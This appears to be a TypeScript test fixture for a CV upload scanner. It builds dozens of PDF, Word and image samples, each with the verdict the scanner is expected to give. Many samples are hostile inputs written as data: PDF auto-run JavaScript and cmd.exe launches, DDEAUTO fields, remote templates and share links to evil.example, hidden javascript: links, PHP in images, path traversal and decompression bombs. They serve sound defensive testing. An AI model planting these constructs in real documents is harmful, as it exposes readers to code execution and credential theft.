/**
 * Files that applicants and attackers send, each with its expected verdict. The honest ones in `samples/` were made by the
 * programs in their names; everything else is made here.
 */
import { readdirSync, readFileSync } from "node:fs";
import { MAX_UPLOAD_BYTES } from "#lib/company/limits";
import {
	cfb,
	doc,
	docx,
	jpg,
	objectStream,
	pdf,
	pdfOf,
	pdfStream,
	png,
	samsungTrailer,
	type Word,
	zip,
} from "#lib/submissions/cv/sample-files";
import type { CvFinding } from "#lib/submissions/model/cv-findings";

export type Sample = {
	/** Completes the sentence 'An applicant sends …'. */
	name: string;
	content: () => Buffer;
	/** If set, the file is kept for staff; otherwise it is accepted or refused. */
	expected: "clean" | CvFinding | "wrong type" | "empty" | "too large";
};
type Row = [name: string, expected: Sample["expected"], content: () => Buffer];

const PAGES = "<</Type/Pages/Count 1/Kids[3 0 R]>>";
const PAGE = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>";
/** A PDF with one page, plus extra catalog entries, page entries and objects from number 4. */
const onePage = (catalog = "", page = "", ...more: string[]) => [
	`<</Type/Catalog/Pages 2 0 R${catalog}>>`,
	PAGES,
	PAGE.replace(">>", `${page}>>`),
	...more,
];
const withPage = (catalog = "", page = "", ...more: string[]) => pdfOf(onePage(catalog, page, ...more));
const link = (action: string) => withPage("", `/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<<${action}>>>>]`);
/** The object with script comes first and its replacement after it; each reader's table decides which counts. */
const replaced = () =>
	Buffer.concat([
		Buffer.from("%PDF-1.7\n4 0 obj<</S/JavaScript/JS(app.alert)>>endobj\n"),
		withPage("/OpenAction 4 0 R", "", "<</S/GoTo/D[3 0 R/Fit]>>").subarray("%PDF-1.7\n".length),
	]);

const PDFS: Row[] = [
	["a PDF of one page", "clean", () => withPage()],
	["a PDF of 5,242,880 bytes", "clean", () => pdf(MAX_UPLOAD_BYTES)],
	["a PDF of 5,242,881 bytes", "too large", () => pdf(MAX_UPLOAD_BYTES + 1)],
	["a PDF with an object stream", "clean", () => withPage("", "", objectStream(["<</Title(CV)>>"]))],
	["a PDF that opens on its second page", "clean", () => withPage("/OpenAction[3 0 R/Fit]")],
	["a PDF that opens on a page by an action", "clean", () => withPage("/OpenAction<</S/GoTo/D[3 0 R/Fit]>>")],
	["a PDF with a link to a web page", "clean", () => link("/S/URI/URI(https://example.com/yaa)")],
	["a PDF with a link to an email address", "clean", () => link("/S/URI/URI(mailto:yaa@example.com)")],
	["a PDF with a link to a phone number", "clean", () => link("/S/URI/URI(tel:+233200000000)")],
	["a PDF with a link to one of its pages", "clean", () => link("/S/GoTo/D[3 0 R/Fit]")],
	["a PDF with a link to an address without scheme", "clean", () => link("/S/URI/URI(www.example.com)")],
	["a PDF with a button to its next page", "clean", () => link("/S/Named/N/NextPage")],
	[
		"a PDF with an outline",
		"clean",
		() => withPage("/Outlines 4 0 R", "", "<</First 5 0 R/Count 1>>", "<</Title(A)>>"),
	],
	[
		"a PDF with a text of a script",
		"clean",
		() => withPage("", "", pdfStream("BT (/S/JavaScript /Launch) Tj ET")),
	],
	[
		"a PDF whose page says so unpacked",
		"clean",
		() => withPage("", "", pdfStream("BT (/JavaScript) Tj ET", "", "")),
	],
	["a signed PDF", "clean", () => withPage("/AcroForm<</SigFlags 3/Fields[4 0 R]>>", "", SIGNATURE)],
	["a PDF with a form without actions", "clean", () => withPage("/AcroForm<</Fields[<</FT/Tx/T(name)>>]>>")],
	["a tagged PDF", "clean", () => withPage("/MarkInfo<</Marked true>>/StructTreeRoot<</K<</S/Document>>>>")],
	[
		"a PDF with its facts as XML",
		"clean",
		() => withPage("/Metadata 4 0 R", "", pdfStream("<x:xmpmeta/>", "", "")),
	],
	["a PDF that was saved twice", "clean", () => Buffer.concat([withPage(), withPage().subarray(15)])],
	["a PDF with script", "script", () => withPage("/OpenAction<</S/JavaScript/JS(app.alert(1))>>")],
	[
		"a PDF with a name of script in hex",
		"script",
		() => withPage("/OpenAction<</S/#4aavaScript/#4a#53(a)>>"),
	],
	[
		"a PDF with script in an object stream",
		"script",
		() => withPage("", "", objectStream(["<</S/JavaScript/JS(a)>>"])),
	],
	[
		"a PDF with script in a stream that does not say so",
		"script",
		() => withPage("", "", objectStream(["<</S/JavaScript>>"], "")),
	],
	["a PDF with script in an earlier revision", "script", replaced],
	[
		"a PDF with script in a comment",
		"script",
		() => withPage("", "", "null % 9 0 obj<</S/JavaScript/JS(a)>>endobj"),
	],
	[
		"a PDF with script within another stream",
		"script",
		() => withPage("", "", pdfStream("9 0 obj<</S/JavaScript>>endobj", "", "")),
	],
	[
		"a PDF with script that is named elsewhere",
		"script",
		() => withPage("/OpenAction<</S 4 0 R>>", "", "/JavaScript"),
	],
	[
		"a PDF with script among its names",
		"script",
		() => withPage("/Names<</JavaScript<</Names[(a) 4 0 R]>>>>"),
	],
	[
		"a PDF with script when a page is shown",
		"script",
		() => withPage("", "/AA<</O<</S/JavaScript/JS(a)>>>>"),
	],
	[
		"a PDF with script after a link",
		"script",
		() => link("/S/GoTo/D[3 0 R/Fit]/Next<</S/JavaScript/JS(a)>>"),
	],
	["a PDF with script in an object that is cut", "script", () => withPage("", "", "<</S/JavaScript/JS(a")],
	["a PDF with a dynamic form", "script", () => withPage("/AcroForm<</XFA 4 0 R>>")],
	["a PDF that opens a program", "program", () => withPage("/OpenAction<</S/Launch/F(cmd.exe)>>")],
	["a PDF with the name of that in hex", "program", () => withPage("/OpenAction<</S/L#61unch/F(cmd.exe)>>")],
	[
		"a PDF that opens a web page by itself",
		"action",
		() => withPage("/OpenAction<</S/URI/URI(https://example.com)>>"),
	],
	[
		"a PDF that does so when it is closed",
		"action",
		() => withPage("/AA<</WC<</S/URI/URI(https://example.com)>>>>"),
	],
	[
		"a PDF that does so behind a turn to a page",
		"action",
		() => withPage("/OpenAction<</S/GoTo/Next<</S/URI/URI(https://a.b)>>>>"),
	],
	["a PDF that sends its form", "form", () => link("/S/SubmitForm/F(https://example.com)")],
	["a PDF that fetches form data", "form", () => link("/S/ImportData/F(a.fdf)")],
	["a PDF with a file in it", "attachment", () => withPage("", "", pdfStream("MZ", "/Type/EmbeddedFile"))],
	[
		"a PDF with a file pinned to a page",
		"attachment",
		() => withPage("", "/Annots[<</Subtype/FileAttachment>>]"),
	],
	["a PDF that is a folder of files", "attachment", () => withPage("/Collection<</View/D>>")],
	["a PDF that opens another file", "remote", () => link("/S/GoToR/F(\\\\\\\\evil.example\\\\a.pdf)")],
	[
		"a PDF whose picture lies elsewhere",
		"remote",
		() => withPage("", "", pdfStream("", "/F(https://example.com/a)")),
	],
	["a PDF with a film", "media", () => withPage("", "/Annots[<</Subtype/RichMedia>>]")],
	["a PDF with a link to a file", "link", () => link("/S/URI/URI(file:///etc/passwd)")],
	["a PDF with a link that is script", "link", () => link("/S/URI/URI(java\\tscript:alert)")],
	["a PDF with a link to a share", "link", () => link("/S/URI/URI(\\\\\\\\evil.example\\\\a)")],
	["a PDF with a link to data", "link", () => link("/S/URI/URI(data:text/html,a)")],
	[
		"a PDF with a link that is script behind a letter that nobody sees",
		"link",
		() => link("/S/URI/URI<FEFF200B006A006100760061007300630072006900700074003A0061>"),
	],
	["a PDF with a link to a share in percents", "link", () => link("/S/URI/URI(%5C%5Cevil.example%5Ca)")],
	["a PDF with an article in another file", "remote", () => link("/S/Thread/F(\\\\\\\\evil\\\\a.pdf)")],
	[
		"a PDF that shows a page of another file",
		"remote",
		() => withPage("", "", pdfStream("", "/Subtype/Form/Ref<</F(\\\\\\\\evil\\\\a.pdf)/Page 0>>")),
	],
	[
		"a PDF whose picture is named for a printer",
		"remote",
		() => withPage("", "", pdfStream("", "/Subtype/Image/OPI<</2.0<</F(\\\\\\\\evil\\\\a.tif)>>>>")),
	],
	[
		"a PDF with a program for printers",
		"script",
		() => withPage("", "", pdfStream("(a) run", "/Type/XObject/Subtype/PS")),
	],
	[
		"a PDF whose object stream is packed in a way that only some readers know",
		"damaged",
		() => withPage("", "", objectStream(["<<>>"], "/Type/ObjStm/DP<</Predictor 2/Columns 9>>")),
	],
	[
		"a PDF with script in an object stream within another",
		"script",
		() => withPage("", "", objectStream([objectStream(["<</S/JavaScript>>"])])),
	],
	["an encrypted PDF", "encrypted", () => pdfOf(onePage(), { trailer: "/Encrypt<</Filter/Standard/V 4>>" })],
	["a PDF with a web page in its first line", "markup", () => pdf(600, "<html><script>1</script>")],
	[
		"a PDF with a web page after a kilobyte",
		"markup",
		() => withPage("", "", pdfStream(`${" ".repeat(2_000)}<script>1</script>`, "", "")),
	],
	["a PDF with PHP in a comment", "markup", () => pdf(600, "%<?php system(1); ?>")],
	[
		"a PDF with an archive at its end",
		"archive",
		() => Buffer.concat([pdf(), zip([{ name: "a.exe", content: "MZ" }])]),
	],
	[
		"a PDF with an archive before its end",
		"archive",
		() => Buffer.concat([pdf(), zip([{ name: "a" }]), Buffer.from("%%EOF")]),
	],
	[
		"a PDF with an archive whose numbers only some readers read",
		"archive",
		() => Buffer.concat([pdf(), zipOnDisk(1), Buffer.from("%%EOF")]),
	],
	[
		"a PDF with an archive of the large kind",
		"archive",
		() => Buffer.concat([pdf(), zipOnDisk(0xffff), Buffer.from("%%EOF")]),
	],
	[
		"a PDF with a RAR archive in a stream",
		"archive",
		() => withPage("", "", pdfStream("Rar!\x1a\x07\x01\0", "", "")),
	],
	["a PDF with a program behind it", "appended", () => pdfOf(onePage(), { after: `MZ${"\x90".repeat(99)}` })],
	[
		"a PDF that ends half way",
		"damaged",
		() => withPage("", "", pdfStream("x".repeat(2_000), "", "")).subarray(0, 900),
	],
	["a PDF that is only a head", "damaged", () => Buffer.from("%PDF-1.7\n")],
	["a PDF with an entry twice", "damaged", () => link("/S/GoTo/S/URI/URI(https://a.b)")],
	[
		"a PDF whose object stream cannot be unpacked",
		"damaged",
		() => withPage("", "", objectStream(["<<>>"], "", "/Filter/LZWDecode")),
	],
	["a PDF with a number broken by a comment", "damaged", () => pdf(600, "9 0 %\nobj<</S/GoTo>>endobj")],
	[
		"a PDF nested a hundred thousand deep",
		"uninspected",
		() => pdf(600, `9 0 obj${"[".repeat(100_000)}endobj`),
	],
	[
		"a PDF that unpacks to a gigabyte",
		"uninspected",
		() => withPage("", "", pdfStream("0".repeat(90_000_000), "/Type/ObjStm/N 1/First 4")),
	],
	["a PDF that takes minutes to read", "uninspected", () => pdf(600, "9 0 obj(".repeat(400_000))],
	[
		"a PDF of 31 KB with fifteen million numbers",
		"uninspected",
		() => withPage("", "", objectStream([`[${"0 ".repeat(15_000_000)}]`])),
	],
	["a PDF with a line before it", "wrong type", () => Buffer.concat([Buffer.from("hello\n"), pdf()])],
];

const SIGNATURE = `<</FT/Sig/T(s)/V<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/adbe.pkcs7.detached/Contents<${"0".repeat(200)}>>>>>`;

/** The end of its table names another disk, which some readers ignore. */
function zipOnDisk(disk: number): Buffer {
	const archive = zip([{ name: "a.exe", content: "MZ" }]);
	archive.writeUInt16LE(disk, archive.length - 22 + 4);
	return archive;
}

const PROGRAM = Buffer.from("MZ\x90\0\x03", "latin1");
const OLE = () => cfb({ "Root/x": Buffer.from("x"), "\u0001Ole10Native": Buffer.from("calc.exe") });
const field = (...instruction: string[]) =>
	`<w:r><w:fldChar w:fldCharType="begin"/></w:r>${instruction.map((text) => `<w:r><w:instrText>${text}</w:instrText></w:r>`).join("")}<w:r><w:fldChar w:fldCharType="end"/></w:r>`;
const carrying = (name: string, content: string | Buffer = "x") => docx([{ name, content }]);
const related = (...relations: NonNullable<Word["relations"]>) => docx([], { relations });
/** A field with the instruction as written here, including elements. */
const fieldOf = (inside: string) =>
	`<w:r><w:fldChar w:fldCharType="begin"/>${inside}<w:fldChar w:fldCharType="end"/></w:r>`;
const drawing = (inside: string) =>
	docx([], { body: `<w:r><w:pict><v:shape>${inside}</v:shape></w:pict></w:r>` });
const START = "DDEAUTO c:\\windows\\cmd.exe";
const MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml";

const WORDS: Row[] = [
	["a Word document", "clean", () => docx()],
	[
		"a Word document with a picture",
		"clean",
		() => docx([{ name: "word/media/a.png", content: png() }], { relations: [["image", "media/a.png"]] }),
	],
	[
		"a Word document with a link to a web page",
		"clean",
		() => related(["hyperlink", "https://example.com", true]),
	],
	[
		"a Word document with a link to an email address",
		"clean",
		() => related(["hyperlink", "mailto:yaa@example.com", true]),
	],
	[
		"a Word document made from a template",
		"clean",
		() => docx([], { template: "file:///C:\\Users\\Yaa\\CV.dotx" }),
	],
	[
		"a Word document with page numbers",
		"clean",
		() => docx([], { body: field(" PA", "GE \\* MERGEFORMAT ") }),
	],
	[
		"a Word document with a variable and a choice",
		"clean",
		() => docx([], { body: field(" DOCVARIABLE name ") + field(' IF "a" = "b" "c" ') }),
	],
	[
		"a Word document with references",
		"clean",
		() => docx([], { body: field(' ADDIN ZOTERO_ITEM CSL_CITATION {"a":1} ') }),
	],
	[
		"a packed Word document",
		"clean",
		() => docx([{ name: "word/styles.xml", content: "<w:styles/>".padEnd(90_000), isPacked: true }]),
	],
	[
		"a Word document in UTF-16",
		"clean",
		() => carrying("word/styles.xml", Buffer.from("\ufeff<w:styles/>", "utf16le")),
	],
	[
		"a Word document with a font of its own",
		"clean",
		() => carrying("word/fonts/font1.odttf", Buffer.alloc(99, 7)),
	],
	["a Word document with macros", "macros", () => carrying("word/vbaProject.bin", OLE())],
	[
		"a Word document with macros under another name",
		"macros",
		() => carrying("word/media/image1.png", OLE()),
	],
	[
		"a Word document with macros as settings of a printer",
		"macros",
		() => carrying("word/printerSettings1.bin", OLE()),
	],
	["a Word document with macros called .docx", "macros", () => docx([], { mainType: MACRO_TYPE })],
	["a Word document with a control", "macros", () => related(["control", "activeX/activeX1.xml"])],
	[
		"a Word document whose template lies elsewhere",
		"remote",
		() => docx([], { template: "https://evil.example/a.dotm" }),
	],
	[
		"a Word document whose template lies on a share",
		"remote",
		() => docx([], { template: "\\\\evil.example\\a.dotm" }),
	],
	[
		"a Word document whose template lies on a share, as an address",
		"remote",
		() => docx([], { template: "file://evil.example/a.dotm" }),
	],
	[
		"a Word document whose picture lies elsewhere",
		"remote",
		() => related(["image", "https://evil.example/a.png", true]),
	],
	[
		"a Word document with a part elsewhere",
		"remote",
		() => related(["subDocument", "https://evil.example/a.docx", true]),
	],
	[
		"a Word document with an object",
		"attachment",
		() =>
			docx([{ name: "word/embeddings/a.bin", content: "x" }], {
				relations: [["oleObject", "embeddings/a.bin"]],
			}),
	],
	[
		"a Word document with a spreadsheet in it",
		"attachment",
		() => carrying("word/embeddings/a.xlsx", zip([{ name: "a" }])),
	],
	["a Word document with a web page in it", "attachment", () => related(["aFChunk", "a.htm"])],
	...["a.scr", "a.lnk", "a.ps1", "a.hta", "a.exe", "a.js", "a.jar"].map(
		(name): Row => [`a Word document with ${name} in it`, "attachment", () => carrying(`word/${name}`)],
	),
	["a Word document with a program as a picture", "attachment", () => carrying("word/media/a.png", PROGRAM)],
	[
		"a Word document with a link to a file",
		"link",
		() => related(["hyperlink", "file:///C:/Windows/a.exe", true]),
	],
	[
		"a Word document with a link that is script",
		"link",
		() => related(["hyperlink", "javascript:alert(1)", true]),
	],
	[
		"a Word document with a field that starts a program",
		"field",
		() => docx([], { body: field(" DD", "EAUTO c:\\\\windows\\\\cmd.exe ") }),
	],
	[
		"a Word document with a field that fetches",
		"field",
		() => docx([], { body: '<w:fldSimple w:instr="INCLUDETEXT &quot;https://a.b&quot;"/>' }),
	],
	[
		"a Word document with a field that another field spells",
		"field",
		() =>
			docx([], {
				body: `<w:fldChar w:fldCharType="begin"/>${field("QUOTE 68 68 69")}<w:fldChar w:fldCharType="end"/>`,
			}),
	],
	...[
		["behind an element that is skipped", `<w:instrText><x:a/>${START}</w:instrText>`],
		[
			"behind a field of another namespace",
			`<x:instrText>PAGE </x:instrText><w:instrText>${START}</w:instrText>`,
		],
		[
			"behind a mark of another namespace",
			`<x:fldChar w:fldCharType="separate"/><w:instrText>${START}</w:instrText>`,
		],
		["whose deletion can be taken back", `<w:delInstrText>${START}</w:delInstrText>`],
		[
			"in the second of two choices",
			`<mc:Choice><w:instrText>PAGE </w:instrText></mc:Choice><mc:Fallback><w:instrText>${START}</w:instrText></mc:Fallback>`,
		],
	].map(
		([where, inside]): Row => [
			`a Word document with a field that starts a program, ${where}`,
			"field",
			() => docx([], { body: fieldOf(inside ?? "") }),
		],
	),
	[
		"a Word document with a field that never ends",
		"field",
		() => docx([], { body: `<w:fldChar w:fldCharType="begin"/><w:instrText>${START}</w:instrText>` }),
	],
	[
		"a Word document with the mark of a field twice",
		"unknown",
		() =>
			docx([], {
				body: `<w:fldChar x:fldCharType="a" w:fldCharType="begin"/><w:instrText>${START}</w:instrText>`,
			}),
	],
	[
		"a Word document with the instruction of a field twice",
		"unknown",
		() => docx([], { body: `<w:fldSimple x:instr="PAGE" w:instr="${START}"/>` }),
	],
	...[
		'\\t "_blank" "file://evil.example/a.exe"',
		'" file://evil.example/a.exe"',
		'"//evil.example/a.exe"',
		'"\\\\\\\\evil.example\\\\a.exe"',
		'"c:\\\\windows\\\\cmd.exe"',
		"search-ms:query=a",
	].map(
		(target): Row => [
			`a Word document with a field that links to ${target}`,
			"link",
			() => docx([], { body: field(` HYPERLINK ${target} `) }),
		],
	),
	[
		"a Word document with a link that another field spells",
		"link",
		() => docx([], { body: fieldOf(`<w:instrText>HYPERLINK </w:instrText>${field("DOCPROPERTY a")}`) }),
	],
	[
		"a Word document with links as fields",
		"clean",
		() =>
			docx([], {
				body: [
					'"https://example.com/a?b=c:d"',
					'\\l "work" \\o "C:"',
					'"https://example.com" \\o "Note: \\"new\\"" \\t "_blank"',
					"mailto:yaa@example.com",
					'"www.example.com:8080/a"',
				]
					.map((target) => field(` HYPERLINK ${target} `))
					.join(""),
			}),
	],
	[
		"a Word document with a place to type in",
		"clean",
		() => docx([], { body: field(" MACROBUTTON  NoMacro [Your name] ") }),
	],
	[
		"a Word document with a button that runs a macro",
		"field",
		() => docx([], { body: field(" MACROBUTTON FileExit Go ") }),
	],
	[
		"a Word document with an old picture from elsewhere",
		"remote",
		() => drawing('<v:imagedata src="http://a.b/c"/>'),
	],
	[
		"a Word document with an old picture from a share",
		"remote",
		() => drawing('<v:imagedata src="\\\\evil.example\\a.png"/>'),
	],
	[
		"a Word document with an old drawing that links to script",
		"link",
		() => drawing('<v:rect href="javascript:a"/>'),
	],
	[
		"a Word document with a drawing in lines",
		"clean",
		() =>
			carrying(
				"word/media/a.svg",
				'<svg xmlns:l="x"><a l:href="https://a.b"><use l:href="#c"/></a><image href="data:image/png;base64,AA"/></svg>',
			),
	],
	[
		"a Word document with a film of the web",
		"media",
		() => docx([], { body: '<wp15:webVideoPr embeddedHtml="&lt;iframe&gt;"/>' }),
	],
	[
		"a Word document with a schema from elsewhere",
		"remote",
		() => carrying("word/a.xml", '<a><sl:schema sl:manifestLocation="http://a.b/c"/></a>'),
	],
	[
		"a Word document whose template lies on a share, in percents",
		"remote",
		() => docx([], { template: "%5C%5Cevil%5Ca.dotm" }),
	],
	[
		"a Word document with a link to a share in percents",
		"link",
		() => related(["hyperlink", "%5C%5Cevil%5Ca", true]),
	],
	[
		"a Word document with a link that is script behind a letter that nobody sees",
		"link",
		() => related(["hyperlink", "\u200bjavascript:alert(1)", true]),
	],
	[
		"a Word document with a part of its own that lies elsewhere",
		"remote",
		() => related(["image", "http://a.b/c.png"]),
	],
	["a Word document with an object as a font", "macros", () => carrying("word/fonts/a.ttf", OLE())],
	["a Word document with a program as a font", "attachment", () => carrying("word/fonts/a.odttf", PROGRAM)],
	[
		"a Word document with an add-in",
		"script",
		() => related(["webextensiontaskpanes", "webextensions/taskpanes.xml"]),
	],
	["a Word document with a relationship that is not known", "unknown", () => related(["teleport", "a.xml"])],
	[
		"a Word document with entities of its own",
		"unknown",
		() => carrying("word/a.xml", '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'),
	],
	[
		"a Word document with an encrypted part",
		"encrypted",
		() => docx([{ name: "word/a.xml", content: "x", isEncrypted: true }]),
	],
	[
		"a Word document with a password",
		"encrypted",
		() => cfb({ EncryptedPackage: Buffer.alloc(900), EncryptionInfo: Buffer.alloc(90) }),
	],
	[
		"a Word document that lies about its size",
		"damaged",
		() => docx([{ name: "word/a.xml", content: "x", claimedBytes: 4_000_000_000 }]),
	],
	[
		"a Word document with 5,000 parts",
		"damaged",
		() => docx(Array.from({ length: 5_000 }, (_, index) => ({ name: `word/${index}` }))),
	],
	["a Word document with ../ in it", "damaged", () => carrying("../../etc/passwd")],
	["a Word document with an absolute path", "damaged", () => carrying("/etc/passwd")],
	[
		"a Word document with a link of the file system",
		"damaged",
		() => docx([{ name: "word/link", content: "/etc", mode: 0o120777 }]),
	],
	["a Word document with a part twice", "damaged", () => carrying("word/Document.xml")],
	[
		"a Word document that ends half way",
		"damaged",
		() => docx([{ name: "word/media/a.png", content: png() }]).subarray(0, 1_500),
	],
	[
		"a Word document that unpacks to 100 MB",
		"uninspected",
		() => docx([{ name: "word/a.xml", content: Buffer.alloc(100_000_000, 32), isPacked: true }]),
	],
	[
		"a Word document nested a hundred thousand deep",
		"uninspected",
		() => carrying("word/a.xml", "<a>".repeat(100_000)),
	],
	[
		"a Word document of 10 KB whose field has ten million letters to replace",
		"uninspected",
		() =>
			docx([
				{
					name: "word/header1.xml",
					content: `<w:hdr><w:fldSimple w:instr="HYPERLINK ${"\\".repeat(10_000_000)}"/></w:hdr>`,
					isPacked: true,
				},
			]),
	],
	["an archive", "wrong type", () => zip([{ name: "a.txt", content: "a" }])],
	["a broken archive", "wrong type", () => zip([{ name: "a.txt", content: "a" }]).subarray(0, 40)],
	[
		"a spreadsheet",
		"wrong type",
		() =>
			docx([], { mainType: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml" }),
	],
	["an old Word file", "clean", () => doc()],
	["an old Word file in Unicode", "clean", () => doc({ text: "Yaa Asantewaa Ɛ", isWide: true })],
	[
		"an old Word file with a link",
		"clean",
		() => doc({ text: 'See \x13 HYPERLINK "https://example.com" \x14here\x15.' }),
	],
	["an old Word file made from a template", "clean", () => doc({ template: "C:\\Templates\\CV.dot" })],
	[
		"an old Word file with macros",
		"macros",
		() => doc({ streams: { "Macros/VBA/_VBA_PROJECT": Buffer.from("x") } }),
	],
	[
		"an old Word file with an object",
		"attachment",
		() => doc({ streams: { "ObjectPool/_1/\u0001Ole10Native": Buffer.from("x") } }),
	],
	[
		"an old Word file whose template lies elsewhere",
		"remote",
		() => doc({ template: "https://evil.example/a.dot" }),
	],
	[
		"an old Word file with a field that starts a program",
		"field",
		() => doc({ text: "\x13 DDEAUTO cmd \x14\x15" }),
	],
	["an old Word file with a field that never ends", "field", () => doc({ text: "\x13 DDEAUTO cmd" })],
	[
		"an old Word file with a link to a file behind a window",
		"link",
		() => doc({ text: '\x13 HYPERLINK \\t "a" "file://evil.example/a" \x14here\x15' }),
	],
	[
		"an old Word file with a web page behind it",
		"markup",
		() => Buffer.concat([doc(), Buffer.from("<hta:application><script>1</script>")]),
	],
	[
		"an old Word file with such a field in Unicode",
		"field",
		() => doc({ text: "\x13 DDE cmd \x15", isWide: true }),
	],
	["an old Word file with a password", "encrypted", () => doc({ isEncrypted: true })],
	[
		"an old Word file with a stream that is not known",
		"unknown",
		() => doc({ streams: { Payload: PROGRAM } }),
	],
	["an old Word file without its text", "damaged", () => doc({ text: "x".repeat(9_000) }).subarray(0, 6_000)],
	["an old spreadsheet", "wrong type", () => cfb({ Workbook: Buffer.from("x") })],
];

const OTHERS: Row[] = [
	["a photo", "clean", () => jpg()],
	["a photo with its depth behind it", "clean", () => jpg(jpg())],
	["a photo of a Samsung phone", "clean", () => jpg(samsungTrailer("\0\0\x01\x0aImage_UTC_Data1700000000"))],
	["a photo with a comment", "clean", () => jpg(undefined, "In front of the branch")],
	["a picture", "clean", () => png()],
	["a photo with PHP in it", "markup", () => jpg(undefined, "<?php system(1) ?>")],
	["a photo with a web page behind it", "markup", () => jpg(Buffer.from("<html><script>1</script>"))],
	["a picture with an archive behind it", "archive", () => png(zip([{ name: "a", content: "b" }]))],
	["a picture with a program behind it", "appended", () => png(PROGRAM)],
	["a photo with a program behind it", "appended", () => jpg(PROGRAM)],
	[
		"a photo with a program that ends like a Samsung phone's",
		"appended",
		() => jpg(Buffer.concat([PROGRAM, Buffer.from("SEFT")])),
	],
	[
		"a photo with a program before what a Samsung phone adds",
		"appended",
		() => jpg(Buffer.concat([PROGRAM, samsungTrailer("\0\0\x01\x0aImage_UTC_Data1700000000")])),
	],
	["a photo with a RAR archive in its comment", "archive", () => jpg(undefined, "Rar!\x1a\x07\x01\0 evil")],
	["a photo with a drawing that runs script", "markup", () => jpg(undefined, "<svg/onload=alert(1)>")],
	["a photo that ends half way", "damaged", () => jpg().subarray(0, -4)],
	["a picture that ends half way", "damaged", () => png().subarray(0, 60)],
	["nothing", "empty", () => Buffer.alloc(0)],
	["a program called cv.pdf", "wrong type", () => Buffer.from("MZ\x90\0 this program", "latin1")],
	["a web page called cv.pdf", "wrong type", () => Buffer.from("<!doctype html><script>1</script>")],
	["an SVG", "wrong type", () => Buffer.from("<svg onload='1'/>")],
	["plain text", "wrong type", () => Buffer.from("I can sell.")],
	["a GIF", "wrong type", () => Buffer.from("GIF89a...")],
	["a text of the rich kind", "wrong type", () => Buffer.from("{\\rtf1 Yaa}")],
];

const FOLDER = new URL("./samples/", import.meta.url);
const REAL: Row[] = readdirSync(FOLDER).map((name) => [
	`a real file: ${name}`,
	name.includes("encrypted") ? "encrypted" : "clean",
	() => readFileSync(new URL(name, FOLDER)),
]);

export const SAMPLES: Sample[] = [...PDFS, ...WORDS, ...OTHERS, ...REAL].map(([name, expected, content]) => ({
	name,
	expected,
	content,
}));
